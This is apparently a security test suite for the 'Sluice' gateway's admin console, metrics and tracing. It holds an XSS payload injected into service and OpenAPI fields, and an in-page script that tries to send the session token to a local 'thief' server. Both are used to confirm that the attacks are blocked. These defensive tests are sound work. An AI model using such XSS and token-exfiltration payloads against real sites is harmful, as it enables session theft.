import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect } from "vitest";
import { silentLogger, systemClock } from "../../src/core/index.ts";
import type { ObservedCall, ObservedParticle } from "../../src/engine/interface.ts";
import { createIdentity, type ParticleRef, refBytes, refOf, signParticle } from "../../src/particle/index.ts";
import { createTelemetry } from "../../src/telemetry/index.ts";
import { findChromium } from "../browser/chromium.ts";
import { ANSWERS } from "../support/console-answers.ts";
import { buildConsole, serveConsole } from "../support/console-files.ts";
import { openBrowser, stagedPage } from "../support/console-page.ts";
import { showView } from "../support/console-views.ts";
import { httpServer, tcpServer } from "../support/http-server.ts";
import { testGateway } from "../support/test-gateway.ts";
import { traceCollector } from "../support/trace-collector.ts";
import { askAdmin } from "./support/admin-door.ts";
import { attack } from "./support/attack.ts";
import { boxAt, boxTarget } from "./support/box.ts";
import { callAt } from "./support/call-at.ts";
import { codeOf } from "./support/code-of.ts";
import { json } from "./support/json-answer.ts";
import { target } from "./support/target.ts";

const chromium = findChromium();
const HOSTILE = '<img src=x onerror="window.ran=1"><script>window.ran=1</script>';

describe.skipIf(chromium === undefined)("the console", () => {
  let browser: Browser;
  let served: Awaited<ReturnType<typeof serveConsole>>;
  beforeAll(async () => {
    [served, browser] = await Promise.all([serveConsole(await buildConsole()), openBrowser(chromium ?? "")]);
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await served?.[Symbol.asyncDispose]();
  });

  const ran = (page: Page): Promise<unknown> =>
    page.evaluate('[window.ran ?? null, document.querySelectorAll("img, script:not([src])").length]');
  /** A page of another origin, with this in its body. */
  const elsewhere = async (body: string) => {
    const server = await httpServer((_request, response) =>
      response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html>${body}`),
    );
    const page = await browser.newPage();
    await page.goto(server.url);
    return {
      page,
      async [Symbol.asyncDispose]() {
        await page.close();
        await server[Symbol.asyncDispose]();
      },
    };
  };

  attack("O46", async () => {
    const { services } = ANSWERS["GET /v1/services"] as { services: object[] };
    const named = { services: services.map((each) => ({ ...each, title: HOSTILE, upstream: HOSTILE })) };
    const page = await stagedPage(browser, served.url, {
      answers: { ...ANSWERS, "GET /v1/services": named },
    });
    await showView(page, { hash: "#/services" });
    await page.locator(".said").first().waitFor();
    expect(await ran(page)).toEqual([null, 0]);
    expect(await page.locator("main").textContent()).toContain("<img src=x");
    await page.context().close();
  });

  attack("O47", async () => {
    const schema = { type: "object", description: HOSTILE, properties: { x: { description: HOSTILE } } };
    const content = { "application/json": { schema } };
    const operation = {
      operationId: "getIt",
      summary: HOSTILE,
      description: HOSTILE,
      tags: [HOSTILE],
      security: [],
      parameters: [{ name: "x", in: "query", required: true, schema }],
      requestBody: { content },
      responses: { "200": { description: HOSTILE, content } },
    };
    const document = {
      openapi: "3.1.0",
      info: { title: HOSTILE, version: "1", summary: HOSTILE, description: HOSTILE },
      tags: [{ name: HOSTILE, description: HOSTILE }],
      paths: { "/it": { get: operation } },
      components: { schemas: {} },
    };
    const page = await stagedPage(browser, served.url, { answers: { "GET /v1/openapi.json": document } });
    await page.goto(new URL("/console/api.html#getIt", served.url).href);
    await page.locator("#getIt").getByRole("heading", { name: "Answers" }).waitFor();
    expect(await ran(page)).toEqual([null, 0]);
    expect(await page.locator("#getIt").textContent()).toContain("<img src=x");
    await page.context().close();
  });

  attack("O48", async () => {
    await using thief = await httpServer();
    const page = await stagedPage(browser, served.url);
    const outcome = await page.evaluate(`(async () => {
      const script = document.createElement("script");
      script.textContent = "window.ran = 1";
      document.body.append(script);
      const sent = fetch("${thief.url}/?" + sessionStorage.getItem("sluice.token"), { mode: "no-cors" });
      return [window.ran ?? null, await sent.then(() => "sent", () => "refused")];
    })()`);
    expect(outcome).toEqual([null, "refused"]);
    expect(thief.received).toEqual([]);
    await page.context().close();
  });

  attack("O49", async () => {
    await using framing = await elsewhere(`<iframe src="${served.url}/console/"></iframe>`);
    const [, frame] = framing.page.frames();
    await frame?.waitForLoadState();
    expect(await frame?.locator("body").innerText()).not.toContain("Sluice");
  });

  attack("O50", async () => {
    await using opening = await elsewhere("");
    const { page } = opening;
    const opened = page.waitForEvent("popup");
    await page.evaluate(`void (window.handle = window.open("${served.url}/console/"))`);
    await (await opened).getByLabel("Admin token").waitFor();
    expect(await page.evaluate("window.handle.closed")).toBe(true);
  });
});

const at = target(boxTarget({ answer: ({ method }, response) => json(response, 200, { method }) }));
const metrics = async (): Promise<string> => (await askAdmin(at.gateway, "/metrics")).text;

describe("metrics", () => {
  attack("O51", async () => {
    await callAt(at.gateway, "box", "look");
    for (const [service, fn] of [
      ["made-up-1", "look"],
      ["box", "made-up-2"],
      ["made-up-3/aqua", "made-up-4Response"],
    ] as const)
      expect(await codeOf(callAt(at.gateway, service, fn))).toBe("SLUICE_UNKNOWN_FUNCTION");
    const text = await metrics();
    expect(text).toContain('service="box",function="look"');
    expect(text).not.toContain("made-up");
  });

  attack("O52", async () => {
    for (const path of ["/v1/made-up-1", "/made-up-2", "/v1/services/made-up-3", "/console/made-up-4"])
      for (const method of ["GET", "DELETE"]) await askAdmin(at.gateway, path, { method });
    const text = await metrics();
    expect(text).toContain('operation="none"');
    expect(text).not.toContain("made-up");
  });
});

describe("traces", () => {
  const traced = (collector: string) =>
    testGateway({
      config: { telemetry: { otlp: { url: collector } } },
      adapters: { box: boxAt(at.upstream.url) },
    });
  /** Takes connections, and that is all. */
  const silent = async () => {
    const server = await tcpServer(() => {});
    return { ...server, url: `${server.url.replace("tcp:", "http:")}/v1/traces` };
  };

  attack("O53", async () => {
    await using collector = await traceCollector();
    const gateway = await traced(collector.url);
    const [traceId, spanId] = ["a".repeat(32), "b".repeat(16)];
    await callAt(gateway, "box", "look", { traceparent: `00-${traceId}-${spanId}-01` });
    await gateway[Symbol.asyncDispose]();
    const spans = collector.spans();
    expect(spans.filter(({ kind }) => kind === 3)).toHaveLength(1);
    for (const span of spans) {
      const ref = String(span.attributes["sluice.particle"]) as ParticleRef;
      expect(span.traceId).toBe(Buffer.from(refBytes(ref)).toString("hex").slice(0, 32));
      expect(span.parentSpanId).not.toBe(spanId);
    }
  });

  /** A telemetry of its own whose collector never answers, after so many calls. */
  const afterCalls = async (collector: string, count: number) => {
    const author = await createIdentity();
    const telemetry = await createTelemetry(
      { peerId: author.peerId, version: "1", otlp: { url: collector, headers: {}, sampleRatio: 1 } },
      { published: () => undefined, clock: systemClock, logger: silentLogger },
    );
    const signed = await signParticle({ script: "(null)", ttl: 1000, timestamp: Date.now() }, author);
    const particle: ObservedParticle = {
      ref: refOf(signed),
      particle: signed,
      receivedAt: Date.now(),
      from: "",
      isRecovered: false,
    };
    telemetry.engine.began(particle);
    const request = { id: 1, service: "s", function: "f", arguments: [], tetraplets: [] };
    const call = { request, effect: "safe", result: { retCode: 0, result: "1" }, endedAt: Date.now(), ms: 1 };
    for (let index = 0; index < count; index++)
      telemetry.engine.called(particle, { ...call, decision: undefined } as ObservedCall);
    return telemetry;
  };

  attack("O54", async () => {
    await using collector = await silent();
    {
      await using gateway = await traced(collector.url);
      for (let index = 0; index < 3; index++)
        expect(await callAt(gateway, "box", "look")).toEqual({ method: "GET" });
    }
    const telemetry = await afterCalls(collector.url, 6000);
    expect(telemetry.counters.droppedHere).toBeGreaterThan(1000);
    await telemetry.stop(10);
  });

  attack("O55", async () => {
    await using collector = await silent();
    const telemetry = await afterCalls(collector.url, 600);
    const started = performance.now();
    await telemetry.stop(100);
    expect(performance.now() - started).toBeLessThan(2500);
  });
});
